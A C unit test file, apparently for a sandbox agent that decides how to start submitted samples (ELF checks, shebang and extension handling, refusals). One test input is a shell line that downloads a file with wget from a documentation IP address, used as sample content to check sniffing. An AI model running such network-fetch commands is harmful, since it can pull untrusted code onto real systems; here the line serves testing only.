/* SPDX-License-Identifier: Apache-2.0 */
/* test_start.c - how the agent decides to start a sample. */
#include "agents/linux/start.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

/* A guest that has these and nothing else. */
static bool
fake_has(const char *name, char *ret_path, size_t size)
{
	static const char *const there[] = {
	    "sh", "bash", "python3", "perl", "awk"};
	size_t i;

	for (i = 0; i < sizeof(there) / sizeof(there[0]); i++) {
		if (strcmp(name, there[i]) != 0)
			continue;
		(void)snprintf(ret_path, size, "/fake/%s", name);
		return true;
	}
	return false;
}

static struct start_plan plan;

static void
decide(enum gwire_method method, const char *name, const void *head, size_t n)
{
	const struct start_input in = {.method = method,
	    .name = name,
	    .interpreter = "python3",
	    .head = head,
	    .size = n,
	    .has_program = fake_has};

	start_decide(&in, &plan);
}

static void
runs_with(const char *name, const char *head, const char *interpreter)
{
	decide(WIRE_M_AUTO, name, head, strlen(head));
	assert_int_equal(plan.refusal, 0);
	assert_string_equal(plan.interpreter, interpreter);
	assert_true(plan.text[0] != '\0');
}

static void
refused(const char *name, const char *head, enum gwire_refusal why)
{
	decide(WIRE_M_AUTO, name, head, strlen(head));
	assert_int_equal(plan.refusal, why);
	assert_true(plan.text[0] != '\0');
}

/* An ELF header: class, data, type, machine. */
static const uint8_t *
elf(uint8_t data, uint16_t type, uint16_t machine)
{
	static uint8_t head[64];

	memset(head, 0, sizeof(head));
	memcpy(head, "\177ELF\2", 5);
	head[5] = data;
	head[16 + (data == 2)] = (uint8_t)type;
	head[18 + (data == 2)] = (uint8_t)machine;
	return head;
}

static void
test_elf(void **state)
{
	(void)state;
	decide(WIRE_M_AUTO, "a.sh", elf(1, 2, 62), 64);
	assert_int_equal(plan.refusal, 0);
	assert_string_equal(plan.interpreter, "");
	decide(WIRE_M_ELF, "a", elf(1, 3, 3), 64);
	assert_int_equal(plan.refusal, 0);
	/* ARM; MIPS big-endian; an object file; a core; cut off. */
	decide(WIRE_M_AUTO, "a", elf(1, 2, 40), 64);
	assert_int_equal(plan.refusal, WIRE_R_ARCHITECTURE);
	decide(WIRE_M_AUTO, "a", elf(2, 2, 8), 64);
	assert_int_equal(plan.refusal, WIRE_R_ARCHITECTURE);
	assert_non_null(strstr(plan.text, "machine 8 "));
	decide(WIRE_M_AUTO, "a", elf(1, 1, 62), 64);
	assert_int_equal(plan.refusal, WIRE_R_FORMAT);
	decide(WIRE_M_AUTO, "a", elf(1, 2, 62), 19);
	assert_int_equal(plan.refusal, WIRE_R_FORMAT);
	decide(WIRE_M_ELF, "a", "#!/bin/sh\n", 10);
	assert_int_equal(plan.refusal, WIRE_R_FORMAT);
}

static void
test_shebang(void **state)
{
	(void)state;
	/* What this machine has is left to the kernel. */
	runs_with("x", "#!/bin/sh\necho\n", "");
	runs_with("x.py", "#!/bin/sh -e\n", "");
	/* By the name, when the path is not there or the line is odd. */
	runs_with("x", "#!/opt/none/bash\n", "/fake/bash");
	runs_with("x", "#!/bin/sh\r\necho\r\n", "/fake/sh");
	runs_with("x", "#!/usr/bin/env python\n", "/fake/python3");
	runs_with("x", "#! /usr/bin/env -S perl -w\n", "/fake/perl");
	runs_with("x", "#!/no/python2.7", "/fake/python3");
	refused("x", "#!/usr/bin/env node\n", WIRE_R_INTERPRETER);
	refused("x", "#!", WIRE_R_UNKNOWN);
	refused("x", "#!   \n", WIRE_R_UNKNOWN);
	refused("x", "#!/usr/bin/env\n", WIRE_R_UNKNOWN);
}

static void
test_extension_and_content(void **state)
{
	(void)state;
	runs_with("a.sh", "anything", "/fake/sh");
	runs_with("A.PY", "x=1", "/fake/python3");
	runs_with("a.tar.pl", "1;", "/fake/perl");
	refused("a.ps1", "Get-Item", WIRE_R_INTERPRETER);
	assert_non_null(strstr(plan.text, "pwsh"));
	refused("a.js", "var a", WIRE_R_INTERPRETER);
	runs_with("sample", "# note\nimport os\n", "/fake/python3");
	runs_with("sample.txt", "\nwget http://192.0.2.1/x\n", "/fake/sh");
	refused("sample", "dear all,\nplease\n", WIRE_R_UNKNOWN);
	refused("sample", "\1\2\3\4", WIRE_R_UNKNOWN);
	refused("a.exe", "MZ\220", WIRE_R_FORMAT);
	refused("a", "\xcf\xfa\xed\xfe....", WIRE_R_FORMAT);
	refused("a.sh", "", WIRE_R_EMPTY);
}

static void
test_interpreter_asked_for(void **state)
{
	(void)state;
	decide(WIRE_M_INTERPRETER, "a", "\1\2", 2);
	assert_int_equal(plan.refusal, 0);
	assert_string_equal(plan.interpreter, "/fake/python3");
	/* An ELF file as a script stays what it says. */
	decide(WIRE_M_SCRIPT, "a.sh", elf(1, 2, 62), 64);
	assert_string_equal(plan.interpreter, "/fake/sh");
}

/* Every first line of every length: no read beyond the given bytes. */
static void
test_any_cut(void **state)
{
	static const char text[] = "#!/usr/bin/env  python3 -u \r\nimport os";
	size_t n;

	(void)state;
	for (n = 0; n < sizeof(text); n++) {
		uint8_t *exact = test_malloc(n + 1);

		memcpy(exact, text, n);
		decide(WIRE_M_AUTO, "x", exact, n);
		assert_true(plan.refusal != 0 || plan.text[0] != '\0');
		test_free(exact);
	}
}

static void
test_find_program(void **state)
{
	char path[START_TEXT_BYTES] = "";

	(void)state;
	assert_true(start_find_program("sh", path, sizeof(path)));
	assert_non_null(strstr(path, "/sh"));
	assert_true(start_find_program("/bin/sh", NULL, 0));
	assert_false(start_find_program("", NULL, 0));
	assert_false(start_find_program("../bin/sh", NULL, 0));
	assert_false(start_find_program("no-such-program", NULL, 0));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_elf),
	    cmocka_unit_test(test_shebang),
	    cmocka_unit_test(test_extension_and_content),
	    cmocka_unit_test(test_interpreter_asked_for),
	    cmocka_unit_test(test_any_cut),
	    cmocka_unit_test(test_find_program),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
